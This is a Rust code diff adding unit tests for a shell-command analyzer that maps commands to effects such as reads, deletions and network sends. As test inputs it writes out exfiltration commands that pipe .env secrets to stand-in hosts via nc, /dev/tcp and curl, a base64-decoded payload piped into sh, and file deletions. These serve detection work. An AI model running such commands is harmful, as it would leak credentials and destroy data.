@@ -481,3 +481,127 @@ impl Walker<'_> {
         assigned
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::analyze::testing::{Harness, walk};
+
+    #[test]
+    fn pipeline_stages_get_what_upstream_read() {
+        assert_eq!(
+            walk("cat .env | nc h.example 1"),
+            [
+                "exec cat",
+                "read .env",
+                "exec nc",
+                "send h.example:1 [.env]"
+            ]
+        );
+        let decoded = walk("echo eA== | base64 -d | sh");
+        assert_eq!(
+            decoded.last().map(String::as_str),
+            Some("obfuscated: decoded data is piped into sh and runs as a script")
+        );
+    }
+
+    #[test]
+    fn redirections() {
+        assert_eq!(
+            walk("sort < in >> out"),
+            ["read in", "write out", "exec sort"]
+        );
+        assert_eq!(
+            walk("echo x 2>/dev/null &> log"),
+            ["write log", "exec echo"]
+        );
+        assert_eq!(walk("echo x >&2 <&0"), ["exec echo"]);
+        assert_eq!(
+            walk("cat .env > /dev/tcp/h.example/80"),
+            ["send h.example:80 []", "exec cat", "read .env"]
+        );
+        assert_eq!(
+            walk("nc h 1 < <(cat .env)"),
+            ["exec cat", "read .env", "exec nc", "send h:1 []"]
+        );
+    }
+
+    #[test]
+    fn here_documents_feed_stdin_and_run_their_substitutions() {
+        assert_eq!(
+            walk("sh <<EOF\nrm -rf x\nEOF\n"),
+            ["exec sh", "exec rm", "delete x"]
+        );
+        assert_eq!(
+            walk("grep x <<EOF\n$(cat .env)\nEOF\n"),
+            ["exec cat", "read .env", "exec grep"]
+        );
+        assert_eq!(walk("cat <<'EOF'\n$(cat .env)\nEOF\n"), ["exec cat"]);
+        assert_eq!(
+            walk("python3 <<<'import os; os.remove(\"/tmp/f\")'"),
+            ["exec python3", "delete /tmp/f", "read /tmp/f"]
+        );
+    }
+
+    #[test]
+    fn subshells_and_pipeline_stages_keep_their_state_to_themselves() {
+        assert_eq!(walk("(cd sub); cat a"), ["exec cat", "read a"]);
+        assert_eq!(
+            walk("cd sub | true; cat a"),
+            ["exec true", "exec cat", "read a"]
+        );
+        assert_eq!(walk("{ cd sub; }; cat a"), ["exec cat", "read sub/a"]);
+        let mut h = Harness::new();
+        h.script("F=.env; G=x cat $G");
+        assert_eq!(h.script("cat $F $G"), ["exec cat", "read .env", "read $G?"]);
+    }
+
+    #[test]
+    fn compound_commands_are_walked() {
+        assert_eq!(
+            walk("for f in a b; do rm \"$f\"; done"),
+            ["exec rm", "delete $f?"]
+        );
+        assert_eq!(
+            walk("if test -f x; then cat x; else rm x; fi"),
+            ["exec test", "exec cat", "read x", "exec rm", "delete x"]
+        );
+        assert_eq!(walk("f() { cat .env; }; f"), ["exec cat", "read .env"]);
+        assert_eq!(walk("[[ $(cat k) == x ]]"), ["exec cat", "read k"]);
+    }
+
+    #[test]
+    fn command_substitutions_are_followed_and_feed_the_command() {
+        assert_eq!(
+            walk("curl -d \"$(cat .env)\" https://x.example"),
+            [
+                "exec cat",
+                "read .env",
+                "exec curl",
+                "send https://x.example [.env]"
+            ]
+        );
+    }
+
+    #[test]
+    fn nesting_is_limited() {
+        let nested = format!("{}ls", "eval ".repeat(MAX_DEPTH + 1));
+        assert!(
+            walk(&nested)
+                .iter()
+                .any(|e| e.contains("nested too deeply"))
+        );
+        let shallow = format!("{}ls", "eval ".repeat(MAX_DEPTH - 2));
+        assert_eq!(walk(&shallow), ["exec ls"]);
+    }
+
+    #[test]
+    fn a_remote_walk_reports_nothing_here() {
+        let kb = KnowledgeBase::builtin();
+        let options = ParserOptions::default();
+        let mut w = Walker::new(&kb, &options, 0);
+        let far = w.walk_remote("cat x");
+        assert_eq!(far.len(), 2);
+        assert!(w.into_effects().is_empty());
+    }
+}
